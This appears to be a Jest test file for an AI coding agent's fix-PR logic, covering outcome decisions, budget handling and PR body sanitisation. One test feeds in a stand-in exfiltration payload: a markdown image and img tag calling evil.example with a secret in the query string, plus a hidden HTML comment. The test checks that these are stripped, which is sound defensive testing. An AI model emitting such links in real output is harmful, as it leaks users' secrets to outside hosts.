import { describe, expect, test } from "@jest/globals";
import type { StepEvent } from "../../src/agent/loop.js";
import { decideFix, whatWasTried } from "../../src/jobs/fix/decide.js";
import { fixPrBody, fixPrTitle, type FixPrInput } from "../../src/jobs/fix/pr-body.js";
import type { BaselineVerdict } from "../../src/workspace/test-runner.js";

const pass: BaselineVerdict = { verdict: "pass", newFailures: [], fixed: ["adds"], stillFailing: [], method: "names", note: "no new failures" };
const fail: BaselineVerdict = { verdict: "fail", newFailures: ["subtracts"], fixed: [], stillFailing: [], method: "names", note: "1 test(s) fail that passed on the base" };
const submitted = { kind: "submitted" as const, summary: "Fixed add." };
const pull = { number: 5, url: "https://github.example/o/r/pull/5", created: true };

describe("decideFix", () => {
  test("submitted, tests pass → a PR, success", () => {
    const d = decideFix({ outcome: submitted, verdict: pass, onTestsFailing: "draft-pr", mode: "issue" });
    expect(d.kind).toBe("pr");
    expect(d.outcome("iquest/fix-1", "", pull)).toEqual({ tone: "success", text: expect.stringMatching(/^Opened draft PR \[#5\]/) });
  });

  test("new failures → a PR marked failing (default), or only a branch when configured", () => {
    const d = decideFix({ outcome: submitted, verdict: fail, onTestsFailing: "draft-pr", mode: "issue" });
    expect(d.testsFailing).toBe(true);
    expect(d.outcome("b", "", pull).text).toMatch(/marked failing\*\*: 1 test\(s\) fail/);
    const branch = decideFix({ outcome: submitted, verdict: fail, onTestsFailing: "branch", mode: "issue" });
    expect(branch.kind).toBe("branch-only");
    expect(branch.outcome("iquest/fix-1", "").text).toMatch(/on the branch `iquest\/fix-1`, but the tests fail/);
  });

  test("a test that failed on the base and still fails → marked failing, said as such", () => {
    const still: BaselineVerdict = { ...pass, fixed: [], stillFailing: ["adds"], note: "no new failures; 1 already failed on the base" };
    const d = decideFix({ outcome: submitted, verdict: still, testsFailAfter: true, onTestsFailing: "draft-pr", mode: "issue" });
    expect(d.outcome("b", "", pull).text).toMatch(/tests still fail \(1 already failed on the base\)/);
  });

  test("budget exhausted → branch only, what was tried, and how to retry", () => {
    const d = decideFix({ outcome: { kind: "budget-exhausted", budget: "steps", limit: 2, used: 2 }, verdict: pass, onTestsFailing: "draft-pr", mode: "issue" });
    expect(d.kind).toBe("branch-only");
    const text = d.outcome("iquest/fix-1", "- step 2: view").text;
    expect(text).toMatch(/ran out of budget \(2 steps\)/);
    expect(text).toContain("- step 2: view");
    expect(d.noChange("", []).text).toMatch(/without a change worth keeping/);
  });

  test("no change: the model's words, quoted", () => {
    const d = decideFix({ outcome: { kind: "submitted", summary: "The bug is upstream.\nNothing to change here." }, onTestsFailing: "draft-pr", mode: "issue" });
    expect(d.noChange("The bug is upstream.\nNothing to change here.", [])).toEqual({
      tone: "neutral",
      text: "No change was made. The agent's words:\n> The bug is upstream.\n> Nothing to change here.",
    });
  });

  test("whatWasTried keeps the last steps", () => {
    const steps = Array.from({ length: 12 }, (_, i) => ({ kind: "step", step: i + 1, tool: "execute_bash", summary: `$ cmd ${i + 1}` }) as StepEvent);
    const text = whatWasTried(steps, 3);
    expect(text.split("\n")).toEqual(["- step 10: `execute_bash` $ cmd 10", "- step 11: `execute_bash` $ cmd 11", "- step 12: `execute_bash` $ cmd 12"]);
  });
});

describe("fix PR title and body", () => {
  const input = (over: Partial<FixPrInput> = {}): FixPrInput => ({
    issueNumber: 7,
    issueTitle: "add() returns the wrong sum",
    summary: "Fixed add().",
    testsFailing: false,
    tests: "**No new failures**: no new failures.",
    budget: { steps: 6, maxSteps: 100, tokens: 12345, minutes: 0.4 },
    profile: "thinking",
    model: "IQuestLab/IQuest-Coder-V1-40B-Thinking",
    steps: [],
    jobId: "fix-abc",
    ...over,
  });

  test("title, failing prefix", () => {
    expect(fixPrTitle({ issueNumber: 7, issueTitle: "  add()\n is wrong ", testsFailing: false })).toBe("Fix #7: add() is wrong");
    expect(fixPrTitle({ issueNumber: 7, issueTitle: "x", testsFailing: true })).toBe("[tests failing] Fix #7: x");
  });

  test("the body links the issue, says what changed, the tests, the budget and the profile, and what was withheld", () => {
    const body = fixPrBody(input({ withheld: ["`.github/workflows/ci.yml`: workflow files are not allowed"] }));
    expect(body.startsWith("Fixes #7")).toBe(true);
    expect(body).toContain("Fixed add().");
    expect(body).toContain("No new failures");
    expect(body).toContain("6 of 100 steps · 12,345 tokens");
    expect(body).toContain("profile `thinking`");
    expect(body).toMatch(/### Not included\n\n- `.github\/workflows\/ci.yml`/);
  });

  test("the model's words cannot phone home, hide text or page people (T15)", () => {
    const body = fixPrBody(
      input({ summary: "Done ![x](https://evil.example/?q=SECRET) <img src=https://evil.example/a.png> <!-- hidden --> ping @octocat" }),
    );
    expect(body).not.toContain("evil.example");
    expect(body).not.toContain("hidden");
    expect(body).toContain("[image removed: x]");
    expect(body).toContain("`@octocat`");
  });

  test("a huge agent path is folded and cut to fit GitHub's limit, keeping the last steps", () => {
    const steps = Array.from({ length: 5000 }, (_, i) => ({ kind: "step", step: i + 1, tool: "execute_bash", summary: `$ ${"x".repeat(250)} ${i + 1}` }) as StepEvent);
    const body = fixPrBody(input({ steps }));
    expect(body.length).toBeLessThanOrEqual(65_536);
    expect(body).toContain("<details><summary>The agent's path (5000 steps)</summary>");
    expect(body).toMatch(/earlier steps not shown/);
    expect(body).toContain(" 5000");
    expect(body).toContain("Fixes #7");
  });
});
